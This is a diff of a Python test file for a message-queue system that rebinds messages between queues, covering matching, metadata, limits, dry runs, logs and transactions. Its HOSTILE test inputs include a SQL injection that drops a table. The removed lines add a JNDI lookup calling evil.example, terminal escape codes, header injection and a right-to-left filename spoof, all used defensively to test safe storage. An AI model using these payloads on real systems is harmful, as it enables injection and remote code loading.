@@ -5,39 +5,29 @@ import json
 import platform
 import time
 import uuid
+from collections.abc import Callable, Iterable, Iterator
 from contextlib import suppress
 from datetime import UTC, datetime
 from typing import Any
 
 import pytest
 from databases import contents, history, in_order, locked, logged, metas, names, nothing_changes, run_sql, stored
-from factories import ODD_TEXT, ask, counts, message, set_data
+from factories import ODD_TEXT, ask, connected_to, counts, message, set_data
 from sqlalchemy import delete, func, insert, select, text
-from sqlalchemy.exc import DBAPIError
 
 import tables
-from event import HandlerFailed, rebind
-from message import Message
-from moving import BATCH
+from message import Message, NewMessage
+from moving import BATCH, MAX_BATCH, batches
 from names import queue_name
 from queues import DuplicateMessage, Loaded, QueueRegistry, QueueSummary
 from rebinding import Move, Plan
-from store import StoreRefused
+from store import StoreRefused, StoreUnavailable
 from tables import MAX_NAME
 
-FLAGS = ("trigger_rebind_event", "always_flush", "suppress_logging")
 BY_DATA_AND_BY_EVENT = pytest.mark.parametrize("event", [False, True], ids=["data", "event"])
 
 
 # Which messages
-
-
-def test_without_criteria_all_queues_match(queues: QueueRegistry, url: str) -> None:
-    queues.load(
-        [message(), message("bob@other.example"), message(meta={"queue": "pinned"}), message(meta={"queue": ""})]
-    )
-    assert counts(ask(queues, {"queue": "q"})) == (4, 4, 4)
-    assert names(url) == ["q"] * 4
 
 
 def test_a_criterion_picks_the_queues_whose_part_equals_it(queues: QueueRegistry, url: str) -> None:
@@ -51,23 +41,6 @@ def test_a_criterion_picks_the_queues_whose_part_equals_it(queues: QueueRegistry
     )
     assert counts(ask(queues, {"queue": "q"}, campaign="a", tenant="t")) == (1, 1, 1)
     assert names(url) == ["q", "b:t@example.com", "t@example.com", "a:@example.com"]
-
-
-@pytest.mark.parametrize(
-    "criteria",
-    [
-        {"tenant": ""},
-        {"domain": "EXAMPLE.COM"},
-        {"routing_domain": "ROUTE.example"},
-        {"campaign": ODD_TEXT.translate({ord(":"): None, ord("@"): None})},
-    ],
-    ids=["empty tenant", "domain in upper case", "routing domain in upper case", "odd campaign"],
-)
-def test_criteria_find_the_queue(queues: QueueRegistry, url: str, criteria: dict[str, Any]) -> None:
-    campaign = ODD_TEXT.translate({ord(":"): None, ord("@"): None})
-    queues.load([message(meta={"campaign": campaign, "routing_domain": "route.Example"}), message("bob@other.example")])
-    assert counts(ask(queues, {"queue": "q"}, **criteria)) == (1, 1, 1)
-    assert names(url) == ["q", "other.example"]
 
 
 def test_criteria_are_compared_with_the_queues_name_and_not_with_metadata(queues: QueueRegistry, url: str) -> None:
@@ -101,7 +74,7 @@ def test_messages_that_handlers_move_into_matched_queues_are_handled_once(queues
 
     number = 3 * BATCH + 1
     queues.load(message(meta={"queue": f"q{n:05}", "n": n}) for n in range(number))
-    with rebind.connected_to(next_queue):
+    with connected_to(next_queue):
         assert counts(ask(queues, trigger_rebind_event=True)) == (number, number, number)
     assert metas(url) == [{"queue": f"q{n:05}", "n": n} for n in range(1, number + 1)]
     assert names(url) == [meta["queue"] for meta in metas(url)]
@@ -111,48 +84,24 @@ def test_messages_that_handlers_move_into_matched_queues_are_handled_once(queues
     ]
 
 
-def test_more_messages_and_queues_than_a_batch_are_rebound(queues: QueueRegistry, url: str) -> None:
-    number = 2 * BATCH + 1
-    queues.load(message(meta={"tenant": f"t{n}"}) for n in range(number))
-    assert counts(ask(queues, {"campaign": "c"})) == (number, number, number)
-    assert names(url) == [f"c:t{n}@example.com" for n in range(number)]
-    assert [record["queue"] for record in in_order(queues.records())] == names(url)
-
-
 # What becomes of them
 
 
-def test_data_is_set_over_earlier_values(queues: QueueRegistry, url: str) -> None:
-    earlier: dict[str, Any] = {
-        "a": {"nested": {"x": 1}},
-        "b": [1, 2],
-        "c": None,
-        "d": 5,
-        "kept": {"a": None, "b": [{}]},
-    }
-    queues.load([message(meta=earlier)])
+def test_data_is_set_over_earlier_values_and_all_others_stay_what_they_are(queues: QueueRegistry, url: str) -> None:
+    """Numbers too: 1 is not 1.0, and no digit is lost."""
+    earlier: dict[str, Any] = {"a": {"nested": {"x": 1}}, "b": [1, 2], "c": None, "d": {"": None, "b": [{}]}}
+    numbers = {"int": 1, "float": 1.0, "true": True, "big": 2**70, "small": -1.5e-7, "exact": 0.1, "no": False}
+    queues.load([message(meta=earlier | numbers)])
     ask(queues, {"a": "1", "b": "", "c": "null", "new": "{}"})
-    assert metas(url) == [{"a": "1", "b": "", "c": "null", "d": 5, "new": "{}", "kept": {"a": None, "b": [{}]}}]
-
-
-def test_metadata_may_have_any_key_and_value(queues: QueueRegistry, url: str) -> None:
-    queues.load([message(meta={ODD_TEXT: ODD_TEXT, "": {"": [ODD_TEXT]}, "$.a[0]": 1})])
-    ask(queues, {ODD_TEXT: "1" + ODD_TEXT, "$.a[0]": "2", "a.b": "3", "tenant": ODD_TEXT})
-    assert metas(url) == [
-        {ODD_TEXT: "1" + ODD_TEXT, "": {"": [ODD_TEXT]}, "$.a[0]": "2", "a.b": "3", "tenant": ODD_TEXT}
-    ]
-    assert names(url) == [f"{ODD_TEXT}@example.com"]
-    assert [record["meta"] for record in queues.records()] == metas(url)
+    after = {"a": "1", "b": "", "c": "null", "new": "{}", "d": {"": None, "b": [{}]}} | numbers
+    (found,) = metas(url)
+    assert {key: repr(value) for key, value in found.items()} == {key: repr(value) for key, value in after.items()}
 
 
 HOSTILE = {
+    "all sorts": ODD_TEXT,
     "SQL": "' OR 1=1; DROP TABLE messages; --",
-    "SQL's wildcards": "%_*?",
     "a parameter": ":key %(key)s $1 ? %s",
-    "a template": "{{7*7}} ${jndi:ldap://evil.example/a} #{1} <%= 1 %>",
-    "a terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
-    "a header": "a\r\nX-Evil: 1\r\n\r\nHTTP/1.1 200 OK",
-    "right to left": "\u202egnp.exe\u2066",
     "not a character": "\ufffe\uffff\U0010ffff",
     "a quote and a backslash": "'\"\\`\\'\\\"",
     "a path in JSON": "$.a[0]",
@@ -162,12 +111,13 @@ HOSTILE = {
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
 def test_hostile_text_is_text_wherever_it_stands(queues: QueueRegistry, url: str, text: str) -> None:
-    queues.load([message(meta={"campaign": "c", "tenant": "t", "routing_domain": "r"})])
+    meta = {"campaign": "c", "tenant": "t", "routing_domain": "r", "kept " + text: [text]}
+    queues.load([message(meta=meta)])
     criteria: list[dict[str, Any]] = [{key: text} for key in ("campaign", "tenant", "domain", "routing_domain")]
     assert [counts(ask(queues, {"queue": "b"}, **criterion)) for criterion in criteria] == [(0, 0, 0)] * 4
     ask(queues, {"a": text, text: "b"}, reason=text, domain="example.com")
     (record,) = queues.records()
-    assert record["meta"] == {"campaign": "c", "tenant": "t", "routing_domain": "r", "a": text, text: "b"}
+    assert record["meta"] == meta | {"a": text, text: "b"}
     assert record["response"]["content"] == f"Rebound from c:t@example.com!r to c:t@example.com!r: {text}"
 
 
@@ -176,25 +126,6 @@ def test_data_may_have_a_thousand_keys(queues: QueueRegistry, url: str) -> None:
     data = {f"{n:x}": "" for n in range(1000)}
     ask(queues, data)
     assert metas(url) == [data]
-
-
-def test_numbers_and_booleans_stay_what_they_are(queues: QueueRegistry, url: str) -> None:
-    meta = {
-        "int": 1,
-        "float": 1.0,
-        "true": True,
-        "big": 2**70,
-        "small": -1.5e-7,
-        "exact": 0.1,
-        "zero": 0,
-        "false": False,
-    }
-    queues.load([message(meta=meta)])
-    ask(queues, {"a": "b"})
-    (found,) = metas(url)
-    assert {key: repr(value) for key, value in found.items()} == {
-        key: repr(value) for key, value in (meta | {"a": "b"}).items()
-    }
 
 
 def test_a_pinned_message_stays_when_its_campaign_changes(queues: QueueRegistry, url: str) -> None:
@@ -234,7 +165,7 @@ def test_only_a_message_that_moved_is_due_now(queues: QueueRegistry, url: str, e
     )
     first, second = stored(url)
     start = time.time()
-    with rebind.connected_to(set_data):
+    with connected_to(set_data):
         assert counts(ask(queues, {"tenant": "b"}, trigger_rebind_event=event)) == (2, 1, 1)
     moved, stayed = stored(url)
     assert start <= moved["due"] <= time.time()
@@ -247,58 +178,21 @@ def test_always_flush_makes_every_matched_message_due_now(queues: QueueRegistry,
     queues.load([message(due=4e9), message(due=1.0), message(meta={"tenant": "t"}, due=4e9)])
     before = stored(url)
     start = time.time()
-    with rebind.connected_to(set_data):
-        result = ask(queues, {"a": "b"}, tenant=None, always_flush=True, trigger_rebind_event=event)
+    with connected_to(set_data):
+        result = ask(queues, {"a": "b"}, always_flush=True, trigger_rebind_event=event)
     assert counts(result) == (3, 0, 3)
     assert {start <= row["due"] <= time.time() for row in stored(url)} == {True}
     assert [row["created"] for row in stored(url)] == [row["created"] for row in before]
 
 
-def test_the_queue_null_is_a_name_like_any_other_in_a_rebind(queues: QueueRegistry, url: str) -> None:
-    queues.load([message()])
-    assert counts(ask(queues, {"queue": "null"})) == (1, 1, 1)
-    assert [(each.queue, each.messages) for each in queues.queues()] == [("null", 1)]
-    assert counts(ask(queues, {"queue": "back"}, domain="null")) == (1, 1, 1)
-    assert names(url) == ["back"]
-
-
-def test_several_recipients_are_named_by_the_first_and_stay(queues: QueueRegistry, url: str) -> None:
-    queues.load([message(["ada@One.example", "é@two.example"]), message(["bob@three.example"])])
-    ask(queues, {"tenant": "t"})
-    assert [(row["recipient"], row["queue"]) for row in stored(url)] == [
-        (["ada@One.example", "é@two.example"], "t@one.example"),
-        ("bob@three.example", "t@three.example"),
-    ]
-    assert [record["recipient"] for record in in_order(queues.records())] == [
-        ["ada@One.example", "é@two.example"],
-        "bob@three.example",
-    ]
-
-
-# dry_run and limit
-
-
-@pytest.mark.parametrize(
-    "fields", [dict(zip(FLAGS, v, strict=True)) for v in itertools.product([False, True], repeat=3)], ids=str
-)
-@pytest.mark.parametrize("limit", [None, pytest.param(2, marks=pytest.mark.slow)])
-def test_a_dry_run_changes_nothing_and_counts_the_same(
-    queues: QueueRegistry, url: str, fields: dict[str, Any], limit: int | None
-) -> None:
-    queues.load([message(meta={"tenant": tenant}) for tenant in "abc"])
-    before = stored(url)
-    with rebind.connected_to(set_data):
-        dry = ask(queues, {"tenant": "b"}, dry_run=True, limit=limit, **fields)
-        assert (stored(url), logged(url)) == (before, [])
-        assert counts(dry) == counts(ask(queues, {"tenant": "b"}, limit=limit, **fields))
-    assert stored(url) != before
+# limit
 
 
 @BY_DATA_AND_BY_EVENT
 def test_a_limit_picks_those_due_soonest_of_all_queues(queues: QueueRegistry, url: str, event: bool) -> None:
     dues = {"a": [5.0, 1.0], "b": [2.0, 6.0], "c": [4.0, 3.0]}
     queues.load(message(meta={"tenant": t}, due=due) for t, each in dues.items() for due in each)
-    with rebind.connected_to(set_data):
+    with connected_to(set_data):
         assert counts(ask(queues, {"queue": "q"}, limit=3, trigger_rebind_event=event)) == (3, 3, 3)
     assert names(url) == ["a@example.com", "q", "q", "b@example.com", "c@example.com", "q"]
     assert [record["old_queue"] for record in in_order(queues.records())] == [
@@ -311,7 +205,7 @@ def test_a_limit_picks_those_due_soonest_of_all_queues(queues: QueueRegistry, ur
 @BY_DATA_AND_BY_EVENT
 def test_of_messages_due_at_once_a_limit_picks_the_smallest_ids(queues: QueueRegistry, url: str, event: bool) -> None:
     queues.load([message(id=id) for id in ("é", "b", "B")])
-    with rebind.connected_to(set_data):
+    with connected_to(set_data):
         ask(queues, {"queue": "q"}, limit=2, trigger_rebind_event=event)
     assert {row["id"]: row["queue"] for row in stored(url)} == {"B": "q", "b": "q", "é": "example.com"}
 
@@ -330,15 +224,6 @@ def test_the_same_request_with_a_limit_moves_the_next_ones(
         assert counts(dry) == seen[-1]
     assert seen == [(2, 2, 2), (1, 1, 1), (0, 0, 0)]
     assert [record["id"] for record in logged(url)] == [stored(url)[n]["id"] for n in (2, 3, 1)]
-
-
-@pytest.mark.parametrize("event", [False, True], ids=["no naming key", "event"])
-def test_a_limit_does_not_skip_messages_if_nothing_says_where_they_would_go(queues: QueueRegistry, event: bool) -> None:
-    queues.load([message(due=4e9) for _ in range(3)])
-    data = {"queue": "q"} if event else {"note": "x"}
-    with rebind.connected_to(set_data):
-        seen = [counts(ask(queues, data, limit=2, trigger_rebind_event=event)) for _ in range(2)]
-    assert seen == ([(2, 2, 2), (2, 0, 0)] if event else [(2, 0, 0)] * 2)
 
 
 # unset
@@ -362,19 +247,19 @@ def test_unset_removes_keys_before_the_queue_is_named(queues: QueueRegistry, url
 
 
 @BY_DATA_AND_BY_EVENT
-def test_a_dry_run_plans_how_many_go_from_where_to_where(queues: QueueRegistry, event: bool) -> None:
+def test_a_dry_run_plans_how_many_go_from_where_to_where(queues: QueueRegistry, url: str, event: bool) -> None:
     tenants = ["a", "b", "b", "c", "t", "t", "t"]
     queues.load(message(meta={"tenant": tenant}) for tenant in tenants)
-    with rebind.connected_to(set_data):
+    with connected_to(set_data), nothing_changes(url):
         planned = ask(queues, {"tenant": "t"}, dry_run=True, trigger_rebind_event=event).plan
-    moves = [Move(f"{tenant}@example.com", "t@example.com", tenants.count(tenant)) for tenant in "tbac"]
+    moves = [Move(f"{tenant}@example.com", "t@example.com", tenants.count(tenant)) for tenant in "bac"]
     assert planned == Plan(matched=7, moved=4, moves=moves, more=0)
 
 
 @BY_DATA_AND_BY_EVENT
 def test_a_plan_has_a_hundred_entries_at_most(queues: QueueRegistry, event: bool) -> None:
     queues.load([*(message(meta={"queue": f"q{n:03}"}) for n in range(102)), message(meta={"queue": "q101"})])
-    with rebind.connected_to(set_data):
+    with connected_to(set_data):
         planned = ask(queues, {"queue": "to"}, dry_run=True, trigger_rebind_event=event).plan
     moves = [Move("q101", "to", 2), *(Move(f"q{n:03}", "to", 1) for n in range(99))]
     assert planned == Plan(matched=103, moved=103, moves=moves, more=2)
@@ -386,9 +271,9 @@ def test_a_plan_has_a_hundred_entries_at_most(queues: QueueRegistry, event: bool
 @BY_DATA_AND_BY_EVENT
 def test_suppress_logging_writes_no_record(queues: QueueRegistry, url: str, event: bool) -> None:
     queues.load([message(), message()])
-    with rebind.connected_to(set_data):
-        result = ask(queues, {"queue": "q"}, suppress_logging=True, trigger_rebind_event=event)
-    assert (counts(result), names(url), list(queues.records())) == ((2, 2, 2), ["q", "q"], [])
+    with connected_to(set_data):
+        assert counts(ask(queues, {"queue": "q"}, suppress_logging=True, trigger_rebind_event=event)) == (2, 2, 2)
+    assert (names(url), logged(url), len(history(url))) == (["q", "q"], [], 1)
 
 
 @BY_DATA_AND_BY_EVENT
@@ -396,7 +281,7 @@ def test_a_record_says_what_became_of_a_message(queues: QueueRegistry, url: str,
     meta = {"tenant": "t", "reception_protocol": "ESMTP"}
     new = message(["Ada@Example.com", "bob@other.example"], meta=meta, content=b"\xc3\xa9", num_attempts=2)
     queues.load([new])
-    with rebind.connected_to(set_data):
+    with connected_to(set_data):
         result = ask(queues, {"tenant": "u"}, reason="réason: %s {}", actor="ada", trigger_rebind_event=event)
     (row,), (rebound,) = stored(url), history(url)
     created, event_time = row["created"], rebound["event_time"]
@@ -439,38 +324,17 @@ def test_a_record_says_what_became_of_a_message(queues: QueueRegistry, url: str,
     assert row["due"] == event_time
 
 
-def test_records_come_oldest_first_however_many(queues: QueueRegistry) -> None:
-    new = [message(due=float(-n)) for n in range(2 * BATCH + 1)]
+def test_records_come_oldest_first_and_continue_after_any_key(queues: QueueRegistry) -> None:
+    new = [message() for _ in range(BATCH + 1)]
     queues.load(new)
     rebinds = [ask(queues, {"queue": name}).rebind_id for name in ("z", "a")]
-    assert [record["rebind_id"] for record in queues.records()] == [each for each in rebinds for _ in new]
-    ids = [each.id for each in new] * 2
-    assert [record["id"] for record in in_order(queues.records())] == ids
-
-
-@pytest.mark.parametrize("after", [0, BATCH, 2 * BATCH + 1])
-def test_the_log_continues_after_the_record_with_a_key(queues: QueueRegistry, after: int) -> None:
-    new = [message() for _ in range(2 * BATCH + 1)]
-    queues.load(new)
-    ask(queues)
     records = list(queues.records())
-    assert len(records) == len(new)
+    assert [record["rebind_id"] for record in records] == [each for each in rebinds for _ in new]
+    assert [record["id"] for record in in_order(records)] == [each.id for each in new] * 2
     keys = [record["key"] for record in records]
     assert keys == sorted(set(keys))
-    assert list(queues.records(after=keys[after - 1] if after else 0)) == records[after:]
-
-
-def test_records_that_are_followed_come_when_they_are_written(queues: QueueRegistry) -> None:
-    first, second = message(), message()
-    queues.load([first])
-    ask(queues)
-    follow = queues.records(poll=0.001)
-    assert next(follow)["id"] == first.id
-    queues.load([second])
-    ask(queues, limit=1)
-    assert next(follow)["id"] == first.id
-    ask(queues, {"tenant": "t"})
-    assert {next(follow)["id"], next(follow)["id"]} == {first.id, second.id}
+    for after in (1, BATCH, 2 * BATCH + 2):
+        assert list(queues.records(after=keys[after - 1])) == records[after:]
 
 
 # load and queues
@@ -478,9 +342,11 @@ def test_records_that_are_followed_come_when_they_are_written(queues: QueueRegis
 
 def test_a_message_is_stored_as_it_was_loaded(queues: QueueRegistry, url: str) -> None:
     new = message("Ada@Example.COM", meta={"tenant": "t", "é": [1]}, content=b"\0\xff", due=1.25, num_attempts=7)
+    empty = message(content=b"", due=None)
     start = time.time()
-    assert queues.load([new]) == Loaded(messages=1, empty=0, discarded=0)
-    (row,) = stored(url)
+    assert queues.load([new, empty]) == Loaded(messages=2, empty=1, discarded=0)
+    row, without_a_time = stored(url)
+    assert without_a_time["due"] == without_a_time["created"]
     assert start <= row["created"] <= time.time()
     assert row == row | {
         "id": new.id,
@@ -493,13 +359,7 @@ def test_a_message_is_stored_as_it_was_loaded(queues: QueueRegistry, url: str) -
         "due": 1.25,
         "num_attempts": 7,
     }
-    assert contents(url) == {new.id: b"\0\xff"}
-
-
-def test_a_message_without_a_time_is_due_when_it_is_loaded(queues: QueueRegistry, url: str) -> None:
-    queues.load([message(due=None)])
-    (row,) = stored(url)
-    assert row["due"] == row["created"]
+    assert contents(url) == {new.id: b"\0\xff", empty.id: b""}
 
 
 def test_a_load_discards_messages_for_the_queue_null(queues: QueueRegistry, url: str) -> None:
@@ -510,43 +370,31 @@ def test_a_load_discards_messages_for_the_queue_null(queues: QueueRegistry, url:
     assert contents(url).keys() == {each.id for each in kept}
 
 
-def test_a_load_of_nothing_adds_nothing(queues: QueueRegistry) -> None:
-    assert queues.load([]) == Loaded(messages=0, empty=0, discarded=0)
-    assert queues.load([message(meta={"queue": "null"})]) == Loaded(messages=0, empty=0, discarded=1)
-    assert queues.queues() == []
+def cannot_be_read() -> Iterator[NewMessage]:
+    yield message()
+    raise RuntimeError("line 501")
 
 
-def test_an_id_that_is_there_is_refused_and_nothing_is_added(queues: QueueRegistry, url: str) -> None:
-    new = message()
-    queues.load([new])
-    before = stored(url)
-    with pytest.raises(DuplicateMessage, match=f"^file 7: message id {new.id} already exists$"):
-        queues.load([*(message() for _ in range(BATCH)), message(id=new.id, source="file 7")])
-    assert stored(url) == before
+WRONG: dict[str, tuple[Callable[[], Iterable[NewMessage]], str]] = {
+    "an id that is there": (lambda: [message(id="there", source="file 7")], "^file 7: message id there already exists"),
+    "an id twice": (lambda: [message(id="twice"), message(id="twice")], "message id twice already exists"),
+    "no domain": (lambda: [message("ada")], "'ada' is not an address"),
+    "what cannot be read": (cannot_be_read, "line 501"),
+}
 
 
-@pytest.mark.parametrize("between", [0, BATCH], ids=["in a batch", "in two batches"])
-def test_an_id_that_comes_twice_is_refused(queues: QueueRegistry, url: str, between: int) -> None:
-    new = message()
-    with pytest.raises(DuplicateMessage, match=new.id):
-        queues.load([new, *(message() for _ in range(between)), new])
-    assert stored(url) == []
+@pytest.mark.parametrize(("wrong", "reason"), WRONG.values(), ids=WRONG)
+def test_a_load_adds_all_or_nothing(
+    queues: QueueRegistry, url: str, wrong: Callable[[], Iterable[NewMessage]], reason: str
+) -> None:
+    queues.load([message(id="there")])
+    with nothing_changes(url), pytest.raises((DuplicateMessage, ValueError, RuntimeError), match=reason):
+        queues.load(itertools.chain((message() for _ in range(BATCH)), wrong()))
 
 
-def test_a_recipient_without_a_domain_is_refused_and_nothing_is_added(queues: QueueRegistry, url: str) -> None:
-    with pytest.raises(ValueError, match="'ada' is not an address"):
-        queues.load([*(message() for _ in range(BATCH)), message("ada")])
-    assert stored(url) == []
-
-
-def test_what_is_loaded_that_cannot_be_read_adds_nothing(queues: QueueRegistry, url: str) -> None:
-    def broken() -> Any:
-        yield from (message() for _ in range(BATCH + 1))
-        raise RuntimeError("line 501")
-
-    with pytest.raises(RuntimeError, match="line 501"):
-        queues.load(broken())
-    assert stored(url) == []
+def test_a_batch_is_small_if_its_messages_are_large() -> None:
+    assert [len(batch) for batch in batches([MAX_BATCH // 2] * 5, size=int)] == [3, 2]
+    assert [len(batch) for batch in batches([1] * (BATCH + 1), size=int)] == [BATCH, 1]
 
 
 def test_the_queues_are_summed_up_by_name(queues: QueueRegistry) -> None:
@@ -561,81 +409,36 @@ def test_the_queues_are_summed_up_by_name(queues: QueueRegistry) -> None:
 # Those who use the tables
 
 
-def insert_message(id: str, meta: str, domain: str = "example.com", queue: str = "example.com") -> str:
-    return (
-        "INSERT INTO messages (id, sender, recipient, domain, queue, meta, created, due) VALUES "
-        f"('{id}', 'a@acme.example', 'ada@example.com', '{domain}', '{queue}', '{meta}', 1, 2)"
-    )
-
-
 @BY_DATA_AND_BY_EVENT
 @pytest.mark.parametrize("ascii_only", [False, True], ids=["as it is", "escaped"])
-def test_a_message_that_a_sender_inserted_is_rebound(
+def test_metadata_is_the_same_however_its_sender_wrote_it(
     queues: QueueRegistry, url: str, event: bool, ascii_only: bool
 ) -> None:
-    meta = {"tenant": 'té\U0001f600"\\', "é\U0001f600": {"ü": ["ö\n"]}, "kept": "ä"}
-    written = json.dumps(meta, ensure_ascii=ascii_only, indent=1)
-    run_sql(url, insert_message("s1", written))
-    with rebind.connected_to(set_data):
-        ask(queues, {"é\U0001f600": "ß", "campaign": "ç"}, trigger_rebind_event=event)
-    (row,) = stored(url)
-    assert row["meta"] == {"tenant": 'té\U0001f600"\\', "é\U0001f600": "ß", "kept": "ä", "campaign": "ç"}
-    assert row["queue"] == 'ç:té\U0001f600"\\@example.com'
-    assert (row["size"], row["num_attempts"], row["created"]) == (0, 0, 1)
-    assert [record["meta"] for record in queues.records()] == [row["meta"]]
+    def change(message: Message, data: dict[str, str]) -> None:
+        message.meta |= data
+        del message.meta["é"]
 
-
-def test_a_key_that_a_sender_wrote_with_escapes_is_the_same_key(queues: QueueRegistry, url: str) -> None:
-    run_sql(url, insert_message("s1", r'{"\u0074enant": "t", "\u00e9": 1, "kept": "\u00e9"}'))
-    ask(queues, {"campaign": "c"}, unset=("é",))
-    assert metas(url) == [{"tenant": "t", "kept": "é", "campaign": "c"}]
-    assert names(url) == ["c:t@example.com"]
+    meta = {"tenant": 'té\U0001f600"\\', "é\U0001f600": {"ü": ["ö\n"]}, "kept": "ä", "é": 1}
+    queues.load([message()])
+    run_sql(url, f"UPDATE messages SET meta = '{json.dumps(meta, ensure_ascii=ascii_only, indent=1)}'")
+    with connected_to(change):
+        unset = () if event else ("é",)
+        ask(queues, {"é\U0001f600": "ß", "campaign": "ç"}, unset=unset, trigger_rebind_event=event)
+    after = {"tenant": 'té\U0001f600"\\', "é\U0001f600": "ß", "kept": "ä", "campaign": "ç"}
+    assert (metas(url), names(url)) == ([after], ['ç:té\U0001f600"\\@example.com'])
+    assert [record["meta"] for record in queues.records()] == [after]
 
 
 def test_a_message_is_named_by_the_domain_that_its_sender_gave(queues: QueueRegistry, url: str) -> None:
-    run_sql(url, insert_message("s1", "{}", domain="relay.example:2525"))
+    queues.load([message(domain="relay.example:2525")])
     ask(queues, {"tenant": "t"})
     assert names(url) == ["t@relay.example:2525"]
-
-
-@pytest.mark.parametrize("meta", ["[]", "null", "1", '"a"', "true", "", "{", '{"a": NaN}'], ids=repr)
-def test_metadata_that_is_not_an_object_is_refused(queues: QueueRegistry, url: str, meta: str) -> None:
-    with pytest.raises(DBAPIError, match=r"meta_is_object|malformed|json"):
-        run_sql(url, insert_message("s1", meta))
-    assert stored(url) == []
-
-
-def test_a_message_that_is_deleted_takes_its_content_along(queues: QueueRegistry, url: str) -> None:
-    kept, gone = message(), message()
-    queues.load([kept, gone])
-    run_sql(url, f"DELETE FROM messages WHERE id = '{gone.id}'")
-    assert contents(url) == {kept.id: b"Hello"}
-
-
-def test_a_sender_that_writes_half_a_character_does_not_keep_others_from_being_rebound(
-    queues: QueueRegistry, url: str
-) -> None:
-    """PostgreSQL refuses such JSON. SQLite accepts it, and reads text from it that is not UTF-8."""
-    queues.load([message(id="other")])
-    with suppress(DBAPIError):
-        run_sql(url, insert_message("half", r'{"campaign": "\ud800"}'))
-    for tenant in ("a", "b"):
-        ask(queues, {"tenant": tenant})
-    named = {summary.queue: summary.messages for summary in queues.queues()}
-    assert named in ({"b@example.com": 1}, {"b@example.com": 1, "\ud800:b@example.com": 1})
 
 
 def test_a_content_without_its_message_is_refused(queues: QueueRegistry, url: str) -> None:
     with pytest.raises(StoreRefused), queues.database.begin_write() as db:
         db.execute(insert(tables.contents).values(id="nobody's", data=b"Hello"))
     assert contents(url) == {}
-
-
-def test_a_rebind_leaves_contents_alone(queues: QueueRegistry, url: str) -> None:
-    queues.load([message(content=b"1"), message(content=b"2")])
-    before = contents(url)
-    ask(queues, {"queue": "q"})
-    assert contents(url) == before
 
 
 # Transactions
@@ -649,17 +452,10 @@ def test_a_commit_in_sqlite_survives_a_power_loss(queues: QueueRegistry) -> None
 
 
 def test_a_transaction_that_reads_leaves_no_trace(queues: QueueRegistry, url: str) -> None:
+    """PostgreSQL does not even allow it."""
     queues.load([message()])
-    with nothing_changes(url), queues.database.begin_read() as db:
+    with nothing_changes(url), suppress(StoreUnavailable), queues.database.begin_read() as db:
         db.execute(delete(tables.messages))
-
-
-@BY_DATA_AND_BY_EVENT
-def test_a_dry_run_waits_for_nobody(queues: QueueRegistry, url: str, event: bool) -> None:
-    queues.load([message()])
-    queues.bind(url, busy_timeout=0)
-    with locked(url), rebind.connected_to(set_data):
-        assert counts(ask(queues, {"queue": "b"}, dry_run=True, trigger_rebind_event=event)) == (1, 1, 1)
 
 
 def test_a_rebind_does_not_wait_for_those_who_only_read(queues: QueueRegistry, url: str) -> None:
@@ -679,21 +475,6 @@ def test_a_name_too_long_for_a_queue_is_refused_and_nothing_changes(
     queues.load([message(meta={"routing_domain": "r" * 700})])
     names = [{"queue": "é" * (MAX_NAME // 2) + "x"}, {"campaign": "c" * 700, "tenant": "t" * 700}]
     for data in names:
-        with nothing_changes(url), rebind.connected_to(set_data), pytest.raises(StoreRefused, match="2000 bytes"):
+        with nothing_changes(url), connected_to(set_data), pytest.raises(StoreRefused, match="2000 bytes"):
             ask(queues, data, trigger_rebind_event=event, dry_run=dry_run)
     assert counts(ask(queues, {"queue": "é" * (MAX_NAME // 2)}, dry_run=dry_run)) == (1, 1, 1)
-
-
-def test_a_failed_rebind_leaves_nothing_behind_that_hinders_the_next(queues: QueueRegistry, url: str) -> None:
-    def fail(message: Message, data: dict[str, str]) -> None:
-        raise RuntimeError("not today")
-
-    queues.load(message() for _ in range(100))
-    failures = []
-    for dry_run in (True, False, True):
-        with rebind.connected_to(fail), pytest.raises(HandlerFailed, match="not today") as failure:
-            ask(queues, {"queue": "q"}, trigger_rebind_event=True, dry_run=dry_run)
-        failures.append(failure)  # their tracebacks hold whatever was open
-    assert counts(ask(queues, {"queue": "q"}, dry_run=True)) == (100,) * 3
-    assert counts(ask(queues, {"queue": "q"})) == (100,) * 3
-    assert names(url) == ["q"] * 100
